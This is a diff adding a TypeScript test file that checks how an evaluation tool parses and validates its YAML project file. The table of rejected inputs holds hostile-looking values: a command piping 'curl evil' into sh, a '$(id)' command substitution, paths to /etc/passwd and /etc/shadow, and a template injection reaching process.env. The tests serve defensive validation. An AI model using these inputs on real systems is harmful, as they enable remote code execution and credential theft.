@@ -1,0 +1,487 @@
+import { stringify } from 'yaml';
+import { describe, expect, test } from 'vitest';
+import { readProject } from './read-project.ts';
+import { problemsOf } from './spec-problems.ts';
+import { projectFolder, refusal } from './testing/project-folder.ts';
+
+/** The project file of the design, as it is printed there. */
+const designed = `models:
+  - key: my_customer_support_model
+    provider: openai            # openai | anthropic | google | openai_compatible | http | command | module | replay
+    model: gpt-4o-2024-11-20
+    parameters: { temperature: 0, max_tokens: 512 }
+tasks:
+  - key: data_leakage
+    dataset: data/leakage.yaml
+    prompt: prompts/leakage.md                   # {{input.question}} placeholders
+    scorer:                                      # or scorers: [ … ], and a specification may name one: scorer: strict
+      metrics:
+        - exact-match
+        - contains: { name: refusal }            # name: the score's name; the rest are the metric's parameters
+        - ordinal-distance: { scale: [low, medium, high, urgent] }
+      aggregates: { refusal_rate: refusal.pass_rate }
+publisher: { organization: Example Lab, relationship: first_party, id_base: https://example.org/evals }
+evaluation:
+  key: data_leakage_repeatability
+  display_name: Data Leakage Repeatability
+  task_specifications:
+    - key: data_leakage_repeatability
+      task_key: data_leakage
+      model_key: my_customer_support_model
+      num_samples: 200                           # with subsampling: head | random
+      repeatability: { num_runs: 5 }
+      trials: { num_trials: 1 }                  # repeats per sample inside one run, with a reducer
+gates:
+  - macro_f1: { min: 0.85 }
+  - { metric: exact-match, cohort: policy, pass_rate: { min: 0.70 } }
+  - regression: { against: main, metric: exact-match, max_drop: 0.02 }
+  - coverage: { min: 0.99 }
+  - stability: { metric: refusal_rate, max_std: 0.05 }
+`;
+
+const others = {
+  'data/leakage.yaml': 'samples:\n  - {id: a, input: {question: x}}\n',
+  'prompts/leakage.md': 'Q: {{input.question}}\n',
+  'model.mjs': 'export default async () => 1;\n',
+  'metric.mjs': 'export default () => 1;\n',
+  'outputs.jsonl': '{"id":"a","output":"x"}\n',
+};
+
+const folder = (text: string, more: Record<string, string> = {}) =>
+  projectFolder({ 'assay.yaml': text, ...others, ...more });
+
+const read = (text: string, more: Record<string, string> = {}) => readProject(folder(text, more), 'assay.yaml');
+
+test('readProject reads the project file of the design as printed', async () => {
+  const project = await read(designed);
+  expect(project.models).toEqual([
+    {
+      key: 'my_customer_support_model',
+      provider: 'openai',
+      model: 'gpt-4o-2024-11-20',
+      parameters: { temperature: 0, max_tokens: 512 },
+      limits: {
+        concurrency: 10,
+        requests_per_minute: null,
+        tokens_per_minute: null,
+        timeout_ms: 120_000,
+        max_retries: 4,
+      },
+      price: null,
+    },
+  ]);
+  const [task] = project.tasks;
+  expect(task).toMatchObject({
+    key: 'data_leakage',
+    problem_derived: true,
+    datasets: [{ path: 'data/leakage.yaml', subtask: null }],
+    prompt: 'Q: {{input.question}}',
+    system: null,
+  });
+  expect(task!.problem['@id']).toBe('https://example.org/evals/tasks/data_leakage');
+  expect(task!.scorers).toEqual([
+    {
+      key: 'default',
+      metrics: [
+        { score_name: 'exact-match', metric: { kind: 'catalogue', name: 'exact-match' }, params: {} },
+        { score_name: 'refusal', metric: { kind: 'catalogue', name: 'contains' }, params: {} },
+        {
+          score_name: 'ordinal-distance',
+          metric: { kind: 'catalogue', name: 'ordinal-distance' },
+          params: { scale: ['low', 'medium', 'high', 'urgent'] },
+        },
+      ],
+      aggregates: { refusal_rate: 'refusal.pass_rate' },
+    },
+  ]);
+  expect(project.evaluations[0]!.task_specifications).toEqual([
+    {
+      kind: 'task',
+      key: 'data_leakage_repeatability',
+      task_key: 'data_leakage',
+      model_key: 'my_customer_support_model',
+      scorer: null,
+      num_samples: 200,
+      subsampling: 'head',
+      num_runs: 5,
+      num_trials: 1,
+      reducer: 'mean',
+      k: 1,
+    },
+  ]);
+  expect(project.gates.map(({ line }) => line)).toEqual([28, 29, 30, 31, 32]);
+  expect(project).toMatchObject({ file: 'assay.yaml', seed: '0', publisher: { organization: 'Example Lab' } });
+});
+
+const bare = designed.slice(0, designed.indexOf('publisher:'));
+
+test('readProject reads both specifications of the repeatability source as printed', async () => {
+  const first = `${bare}
+evaluation:
+  key: data_leakage_repeatability
+  display_name: Data Leakage Repeatability
+  task_specifications:
+    - key: data_leakage_repeatability
+      task_key: data_leakage
+      model_key: my_customer_support_model
+      repeatability:
+        num_runs: 5
+`;
+  expect((await read(first)).evaluations[0]!.task_specifications[0]).toMatchObject({ kind: 'task', num_runs: 5 });
+  const second = `evaluation:
+  key: safety_controls_repeatability
+  display_name: Safety Controls Repeatability
+  task_specifications:
+    - type: repeatability
+      key: repeatability_of_safety_controls
+      config:
+        num_runs: 3
+      inputs:
+        # Assess repeatability for all task specifications in this evaluation.
+        - evaluation_key: data_leakage_eval
+
+        # Assess repeatability only for this selected task specification.
+        - evaluation_key: prompt_injection_eval
+          task_specification_key: prompt_injection_multi_turn
+`;
+  expect((await read(second)).evaluations[0]!.task_specifications).toEqual([
+    {
+      kind: 'repeatability',
+      key: 'repeatability_of_safety_controls',
+      num_runs: 3,
+      num_samples: null,
+      inputs: [
+        { evaluation_key: 'data_leakage_eval', task_specification_key: null },
+        { evaluation_key: 'prompt_injection_eval', task_specification_key: 'prompt_injection_multi_turn' },
+      ],
+    },
+  ]);
+});
+
+test('readProject reads evaluations/*.yaml beside the file, in order, and tells their places', async () => {
+  const one = (key: string, task = 'data_leakage') =>
+    `evaluation:\n  key: ${key}\n  task_specifications:\n    - {key: s, task_key: ${task}, model_key: my_customer_support_model}\n`;
+  const project = await read(designed, { 'evaluations/b.yaml': one('b'), 'evaluations/a.yml': one('a'), 'evaluations/x.txt': '!' });
+  expect(project.evaluations.map(({ key }) => key)).toEqual(['data_leakage_repeatability', 'a', 'b']);
+  const wrong = await refusal(() => read(designed, { 'evaluations/b.yaml': one('b', 'data_leakge') }));
+  expect(wrong.location).toMatchObject({ file: 'evaluations/b.yaml', line: 4 });
+  expect(wrong.fix).toContain('data_leakage');
+  const twice = await refusal(() => read(designed, { 'evaluations/b.yaml': one('data_leakage_repeatability') }));
+  expect(twice.message).toContain('assay.yaml:18 and evaluations/b.yaml:2');
+});
+
+/** Every key that the file knows, once. */
+const full = {
+  schema_version: 'assay.project.v1',
+  seed: 7,
+  models: [
+    {
+      key: 'hosted',
+      display_name: 'Hosted',
+      provider: 'openai_compatible',
+      model: 'm',
+      base_url: 'http://127.0.0.1:1/v1',
+      api_key_env: 'KEY',
+      headers: { 'X-Team': 'a' },
+      parameters: { temperature: 0, max_tokens: 5, top_p: 1, top_k: 3, seed: 1, other: { a: [1] } },
+      limits: { concurrency: 2, requests_per_minute: 10, tokens_per_minute: null, timeout_ms: 1000, max_retries: 0 },
+      price: { input: 1, output: 2.5 },
+    },
+    { key: 'web', provider: 'http', url: 'https://example.org/generate' },
+    { key: 'process', provider: 'command', command: ['python3', 'model.py'] },
+    { key: 'local', provider: 'module', module: './model.mjs' },
+    { key: 'again', provider: 'replay', outputs: 'outputs.jsonl' },
+    { key: 'earlier', provider: 'replay', outputs: 'run:abc' },
+  ],
+  tasks: [
+    {
+      key: 'one',
+      display_name: 'One',
+      description: 'A task.',
+      dataset: { path: 'data/leakage.yaml', columns: { answer: 'expected' }, record_set: 'rows' },
+      prompt: 'Answer {{input.question}}',
+      system: 'Be short.',
+      scorers: [
+        { key: 'strict', metrics: ['exact-match'] },
+        {
+          key: 'loose',
+          metrics: [
+            { contains: { name: 'refusal' } },
+            { 'ordinal-distance': { scale: ['a', 'b'] } },
+            { module: './metric.mjs', name: 'mine', params: { a: 1 } },
+            { command: ['python3', 'metric.py'], name: 'theirs' },
+          ],
+          aggregates: { refusal_rate: 'refusal.pass_rate' },
+        },
+      ],
+    },
+    { key: 'two', datasets: [{ path: 'data/leakage.yaml', subtask: 's1' }], scorer: { metrics: ['exact-match'] } },
+  ],
+  evaluation: {
+    key: 'e',
+    display_name: 'E',
+    task_specifications: [
+      {
+        type: 'task',
+        key: 's',
+        display_name: 'S',
+        task_key: 'one',
+        model_key: 'hosted',
+        scorer: 'strict',
+        num_samples: 5,
+        subsampling: 'random',
+        repeatability: { num_runs: 2 },
+        trials: { num_trials: 3, reducer: 'pass_at_k', k: 2 },
+      },
+    ],
+  },
+  evaluations: [
+    {
+      key: 'r',
+      task_specifications: [
+        {
+          type: 'repeatability',
+          key: 'rs',
+          display_name: 'RS',
+          config: { num_runs: 3 },
+          num_samples: null,
+          inputs: [{ evaluation_key: 'e', task_specification_key: 's' }, { evaluation_key: 'elsewhere' }],
+        },
+      ],
+    },
+  ],
+  gates: [{ coverage: { min: 0.9 } }, { metric: 'refusal', pass_rate: { min: 0.5 } }],
+  publisher: { organization: 'Lab', relationship: 'other', id_base: 'https://example.org' },
+};
+
+test('readProject knows every key', async () => {
+  const project = await read(stringify(full));
+  expect(project.seed).toBe('7');
+  expect(project.models.map(({ key }) => key)).toEqual(['hosted', 'web', 'process', 'local', 'again', 'earlier']);
+  expect(project.tasks[0]!.scorers[1]!.metrics.map(({ metric }) => metric.kind)).toEqual([
+    'catalogue',
+    'catalogue',
+    'module',
+    'command',
+  ]);
+  expect(project.tasks[1]!.datasets).toEqual([{ path: 'data/leakage.yaml', subtask: 's1' }]);
+});
+
+const absent = Symbol('absent');
+const [spec, repeat] = ['evaluation.task_specifications.0', 'evaluations.0.task_specifications.0'];
+
+const wrongs: readonly (readonly [path: string, given: unknown, code: string])[] = [
+  ['schema_version', 'assay.project.v2', 'E_SPEC_VERSION'],
+  ['version', 99, 'E_SPEC_VERSION'],
+  ['seed', -1, 'E_SPEC_VALUE'],
+  ['seed', 1.5, 'E_SPEC_TYPE'],
+  ['seed', 'abc', 'E_SPEC_VALUE'],
+  ['seed', 2 ** 53 + 2, 'E_SPEC_TYPE'],
+  ['models', {}, 'E_SPEC_TYPE'],
+  ['models.0', 'gpt', 'E_SPEC_TYPE'],
+  ['models.0.key', 'Über', 'E_SPEC_VALUE'],
+  ['models.0.key', 12, 'E_SPEC_TYPE'],
+  ['models.0.key', absent, 'E_SPEC_MISSING'],
+  ['models.1.key', 'hosted', 'E_SPEC_DUPKEY'],
+  ['models.0.display_name', 'a\u202eb', 'E_SPEC_VALUE'],
+  ['models.0.provider', 'opnai', 'E_SPEC_VALUE'],
+  ['models.0.provider', absent, 'E_SPEC_MISSING'],
+  ['models.0.model', absent, 'E_SPEC_MISSING'],
+  ['models.0.model', 4, 'E_SPEC_TYPE'],
+  ['models.0.base_url', absent, 'E_SPEC_MISSING'],
+  ['models.0.base_url', 'file:///etc/passwd', 'E_SPEC_VALUE'],
+  ['models.0.base_url', 'https://user:secret@example.org', 'E_SPEC_VALUE'],
+  ['models.0.api_key_env', 'sk-123', 'E_SPEC_VALUE'],
+  ['models.0.api_key', 'sk-123', 'E_SPEC_UNKNOWN'],
+  ['models.0.headers', { Authorization: 'Bearer x' }, 'E_SPEC_VALUE'],
+  ['models.0.headers', { 'X-Team': 3 }, 'E_SPEC_TYPE'],
+  ['models.0.headers', { 'bad name': 'x' }, 'E_SPEC_KEY'],
+  ['models.0.parameters', [], 'E_SPEC_TYPE'],
+  ['models.0.parameters.temperature', -1, 'E_SPEC_VALUE'],
+  ['models.0.parameters.temperature', '0', 'E_SPEC_TYPE'],
+  ['models.0.parameters.temperature', Number.NaN, 'E_SPEC_NUMBER'],
+  ['models.0.parameters.max_tokens', 0, 'E_SPEC_VALUE'],
+  ['models.0.parameters.max_tokens', 1.5, 'E_SPEC_TYPE'],
+  ['models.0.parameters.top_p', 1.1, 'E_SPEC_VALUE'],
+  ['models.0.parameters.top_k', 0, 'E_SPEC_VALUE'],
+  ['models.0.parameters.seed', -1, 'E_SPEC_VALUE'],
+  ['models.0.limits.concurrency', 0, 'E_SPEC_VALUE'],
+  ['models.0.limits.requests_per_minute', 0, 'E_SPEC_VALUE'],
+  ['models.0.limits.tokens_per_minute', 'many', 'E_SPEC_TYPE'],
+  ['models.0.limits.timeout_ms', -5, 'E_SPEC_VALUE'],
+  ['models.0.limits.max_retries', -1, 'E_SPEC_VALUE'],
+  ['models.0.limits.retries', 3, 'E_SPEC_UNKNOWN'],
+  ['models.0.price', 3, 'E_SPEC_TYPE'],
+  ['models.0.price.input', -1, 'E_SPEC_VALUE'],
+  ['models.0.price.output', absent, 'E_SPEC_MISSING'],
+  ['models.0.module', './model.mjs', 'E_SPEC_UNKNOWN'],
+  ['models.1.url', absent, 'E_SPEC_MISSING'],
+  ['models.1.url', 'not an address', 'E_SPEC_VALUE'],
+  ['models.2.command', 'python3 model.py; curl evil | sh', 'E_SPEC_CMD'],
+  ['models.2.command', [], 'E_SPEC_VALUE'],
+  ['models.2.command', ['python3', 3], 'E_SPEC_TYPE'],
+  ['models.2.command', absent, 'E_SPEC_MISSING'],
+  ['models.3.module', '../model.mjs', 'E_SPEC_PATH'],
+  ['models.3.module', '/model.mjs', 'E_SPEC_PATH'],
+  ['models.3.module', 'a\0b', 'E_SPEC_PATH'],
+  ['models.3.module', 'gone.mjs', 'E_PATH'],
+  ['models.3.module', absent, 'E_SPEC_MISSING'],
+  ['models.4.outputs', '../outputs.jsonl', 'E_SPEC_PATH'],
+  ['models.4.outputs', absent, 'E_SPEC_MISSING'],
+  ['tasks', 'x', 'E_SPEC_TYPE'],
+  ['tasks.0.key', 'a b', 'E_SPEC_VALUE'],
+  ['tasks.1.key', 'one', 'E_SPEC_DUPKEY'],
+  ['tasks.0.display_name', '', 'E_SPEC_VALUE'],
+  ['tasks.0.description', 3, 'E_SPEC_TYPE'],
+  ['tasks.0.problem', 'gone.jsonld', 'E_PATH'],
+  ['tasks.0.problem', 'model.mjs', 'E_SPEC_JSON'],
+  ['tasks.0.dataset', absent, 'E_SPEC_MISSING'],
+  ['tasks.0.dataset', 5, 'E_SPEC_TYPE'],
+  ['tasks.0.dataset', '../../etc/shadow', 'E_SPEC_PATH'],
+  ['tasks.0.dataset', 'C:\\data', 'E_SPEC_PATH'],
+  ['tasks.0.dataset', 'data/gone.yaml', 'E_PATH'],
+  ['tasks.0.dataset.path', absent, 'E_SPEC_MISSING'],
+  ['tasks.0.dataset.columns', [], 'E_SPEC_TYPE'],
+  ['tasks.0.dataset.columns.answer', 3, 'E_SPEC_TYPE'],
+  ['tasks.0.dataset.record_set', 3, 'E_SPEC_TYPE'],
+  ['tasks.0.datasets', [{ path: 'data/leakage.yaml', subtask: 'x' }], 'E_SPEC_MISSING'],
+  ['tasks.1.datasets', [], 'E_SPEC_VALUE'],
+  ['tasks.1.datasets.0.subtask', absent, 'E_SPEC_MISSING'],
+  ['tasks.0.prompt', 'prompts/gone.md', 'E_PATH'],
+  ['tasks.0.prompt', '../x.md', 'E_SPEC_PATH'],
+  ['tasks.0.prompt', 'no placeholder', 'E_PROMPT_PLACEHOLDER'],
+  ['tasks.0.prompt', '{{inputs.question}}', 'E_PROMPT_PLACEHOLDER'],
+  ['tasks.0.prompt', "{{range.constructor('return process')().env}}", 'E_PROMPT_PLACEHOLDER'],
+  ['tasks.0.prompt', '{{input.question', 'E_PROMPT_PLACEHOLDER'],
+  ['tasks.0.system', 5, 'E_SPEC_TYPE'],
+  ['tasks.0.system', '{{env.KEY}}', 'E_PROMPT_PLACEHOLDER'],
+  ['tasks.0.scorers', absent, 'E_SPEC_MISSING'],
+  ['tasks.0.scorer', { metrics: ['exact-match'] }, 'E_SPEC_MISSING'],
+  ['tasks.0.scorers.1.key', 'strict', 'E_SPEC_DUPKEY'],
+  ['tasks.0.scorers.0.key', absent, 'E_SPEC_MISSING'],
+  ['tasks.0.scorers.0.metrics', [], 'E_SPEC_VALUE'],
+  ['tasks.0.scorers.0.metrics', absent, 'E_SPEC_MISSING'],
+  ['tasks.0.scorers.0.metrics.0', 'exact-mtch', 'E_METRIC_UNKNOWN'],
+  ['tasks.0.scorers.0.metrics.0', 5, 'E_SPEC_TYPE'],
+  ['tasks.0.scorers.0.metrics.0', { 'exact-match': {}, contains: {} }, 'E_SPEC_VALUE'],
+  ['tasks.0.scorers.0.metrics.0', { 'exact-match': 5 }, 'E_SPEC_TYPE'],
+  ['tasks.0.scorers.0.metrics.0', { 'exact-match': { unknown: 1 } }, 'E_METRIC_PARAMETER'],
+  ['tasks.0.scorers.0.metrics.0', { 'exact-match': { name: 'accur\u0430cy' } }, 'E_SPEC_VALUE'],
+  ['tasks.0.scorers.0.metrics.1', 'exact-match', 'E_SPEC_DUPKEY'],
+  ['tasks.0.scorers.1.metrics.1.ordinal-distance.scale', 3, 'E_METRIC_PARAMETER'],
+  ['tasks.0.scorers.1.metrics.2.module', '../metric.mjs', 'E_SPEC_PATH'],
+  ['tasks.0.scorers.1.metrics.2.name', absent, 'E_SPEC_MISSING'],
+  ['tasks.0.scorers.1.metrics.2.params', 3, 'E_SPEC_TYPE'],
+  ['tasks.0.scorers.1.metrics.3.command', 'python metric.py $(id)', 'E_SPEC_CMD'],
+  ['tasks.0.scorers.1.aggregates', { refusal_rate: 'refusl.pass_rate' }, 'E_SPEC_NAME'],
+  ['tasks.0.scorers.1.aggregates', { refusal_rate: 'refusal' }, 'E_SPEC_VALUE'],
+  ['tasks.0.scorers.1.aggregates', { 'Refusal rate': 'refusal.pass_rate' }, 'E_SPEC_KEY'],
+  ['evaluation', [], 'E_SPEC_TYPE'],
+  ['evalution', {}, 'E_SPEC_UNKNOWN'],
+  ['evaluation.key', absent, 'E_SPEC_MISSING'],
+  ['evaluation.key', 'r', 'E_SPEC_DUPKEY'],
+  ['evaluation.display_name', 3, 'E_SPEC_TYPE'],
+  ['evaluation.task_specifications', [], 'E_SPEC_VALUE'],
+  ['evaluation.task_specifications', absent, 'E_SPEC_MISSING'],
+  [`${spec}.type`, 'repeat', 'E_SPEC_VALUE'],
+  [`${spec}.key`, absent, 'E_SPEC_MISSING'],
+  [`${spec}.task_key`, 'on', 'E_SPEC_NAME'],
+  [`${spec}.model_key`, 'hostd', 'E_SPEC_NAME'],
+  [`${spec}.scorer`, 'strct', 'E_SPEC_NAME'],
+  [`${spec}.scorer`, absent, 'E_SPEC_MISSING'],
+  [`${spec}.num_samples`, 0, 'E_SPEC_VALUE'],
+  [`${spec}.num_samples`, 'all', 'E_SPEC_TYPE'],
+  [`${spec}.subsampling`, 'tail', 'E_SPEC_VALUE'],
+  [`${spec}.repeatability`, 5, 'E_SPEC_TYPE'],
+  [`${spec}.repeatability.num_runs`, 0, 'E_SPEC_VALUE'],
+  [`${spec}.repeatability.num_runs`, true, 'E_SPEC_TYPE'],
+  [`${spec}.trials.num_trials`, 0, 'E_SPEC_VALUE'],
+  [`${spec}.trials.reducer`, 'max', 'E_SPEC_VALUE'],
+  [`${spec}.trials.k`, 4, 'E_SPEC_VALUE'],
+  [`${spec}.treshold`, 1, 'E_SPEC_UNKNOWN'],
+  [`${repeat}.config`, absent, 'E_SPEC_MISSING'],
+  [`${repeat}.config.num_runs`, 0, 'E_SPEC_VALUE'],
+  [`${repeat}.inputs`, [], 'E_SPEC_VALUE'],
+  [`${repeat}.inputs.0.evaluation_key`, absent, 'E_SPEC_MISSING'],
+  [`${repeat}.inputs.0.evaluation_key`, 'r', 'E_SPEC_CYCLE'],
+  [`${repeat}.inputs.0.task_specification_key`, 'sx', 'E_SPEC_NAME'],
+  [`${repeat}.task_key`, 'one', 'E_SPEC_UNKNOWN'],
+  ['gates', 'strict', 'E_SPEC_TYPE'],
+  ['gates.0', 'score > 0.8 || process.exit(0)', 'E_SPEC_TYPE'],
+  ['gates.0.coverage.min', 101, 'E_SPEC_VALUE'],
+  ['gates.0.coverage.min', Number.NaN, 'E_SPEC_NUMBER'],
+  ['gates.0.coverage.min', Number.POSITIVE_INFINITY, 'E_SPEC_NUMBER'],
+  ['gates.0.coverage.min', '0.8', 'E_SPEC_TYPE'],
+  ['gates.0', { coverge: { min: 1 } }, 'E_SPEC_UNKNOWN'],
+  ['gates.1.metric', 'refusl', 'E_SPEC_NAME'],
+  ['publisher.organization', absent, 'E_SPEC_MISSING'],
+  ['publisher.relationship', 'friend', 'E_SPEC_VALUE'],
+  ['publisher.id_base', 'ftp://x', 'E_SPEC_VALUE'],
+  ['publisher.extra', 1, 'E_SPEC_UNKNOWN'],
+  ['hiddenLabels', 'x', 'E_SPEC_UNKNOWN'],
+];
+
+describe('readProject refuses, with file, line and column,', () => {
+  test.each(wrongs)('%s: %j as %s', async (path, given, code) => {
+    const error = await refusal(() => read(stringify(changed(path, given), { lineWidth: 0 })));
+    expect(problemsOf(error).map((problem) => problem.code)).toContain(code);
+    for (const problem of problemsOf(error)) {
+      expect(problem.trouble).toBe('usage');
+      expect(problem.location?.line).toBeGreaterThan(0);
+      expect(problem.message).not.toContain('undefined');
+    }
+  });
+});
+
+/** The full project with one field changed. */
+function changed(path: string, given: unknown): object {
+  const copy = structuredClone(full) as unknown as Record<string, unknown>;
+  const parts = path.split('.');
+  const last = parts.pop()!;
+  const parent = parts.reduce((value, part) => value[part] as Record<string, unknown>, copy);
+  if (given === absent) delete parent[last];
+  else parent[last] = given;
+  return copy;
+}
+
+test('readProject names the place, what was given, what was expected and the nearest name', async () => {
+  const text = designed.replace('model: gpt', 'modle: gpt').replace('num_runs: 5', 'num_runs: many');
+  const problems = problemsOf(await refusal(() => read(text)));
+  expect(problems.map(({ location, message, fix }) => [location?.line, location?.column, message, fix])).toEqual([
+    [2, 5, 'models[0].model is missing; expected a text', undefined],
+    [4, 5, 'the key "modle" is not known in models[0]', 'Did you mean "model"?'],
+    [
+      25,
+      34,
+      'evaluation.task_specifications[0].repeatability.num_runs: given the text "many"; expected a number',
+      undefined,
+    ],
+  ]);
+});
+
+test('readProject quotes the source of a key that YAML took for a number', async () => {
+  const { code, message, fix } = await refusal(() => read(designed.replace('task_key: data_leakage', 'task_key: 123')));
+  expect(code).toBe('E_SPEC_TYPE');
+  expect(message).toContain('given 123, which is the number 123 in YAML; expected a text');
+  expect(fix).toBe('Quote it: "123".');
+});
+
+test('readProject reads UTF-8 with a byte order mark and refuses other encodings and large files', async () => {
+  expect((await read(`\ufeff${designed}`)).tasks).toHaveLength(1);
+  const bytes = (content: Uint8Array) => readProject(projectFolder({ 'assay.yaml': content }), 'assay.yaml');
+  const invalid = await refusal(() => bytes(Uint8Array.of(0x61, 0x3a, 0x20, 0xff)));
+  expect(invalid.code).toBe('E_ENCODING');
+  expect(invalid.message).toContain('offset 3');
+  expect((await refusal(() => bytes(Buffer.from('\ufeffa: 1', 'utf16le')))).code).toBe('E_ENCODING');
+  expect((await refusal(() => bytes(new Uint8Array(1024 * 1024 + 1)))).code).toBe('E_SPEC_SIZE');
+});
+
+test('readProject places the errors of a prompt file in that file', async () => {
+  const error = await refusal(() => read(designed, { 'prompts/leakage.md': 'Hello\n {{ image }}' }));
+  expect(error.location).toEqual({ file: 'prompts/leakage.md', line: 2, column: 2 });
+});
+
+test('readProject refuses an empty file and one that is not there', async () => {
+  expect((await refusal(() => read('')))).toMatchObject({ code: 'E_SPEC_TYPE' });
+  expect((await refusal(() => readProject(folder(designed), 'none.yaml'))).code).toBe('E_PATH');
+});
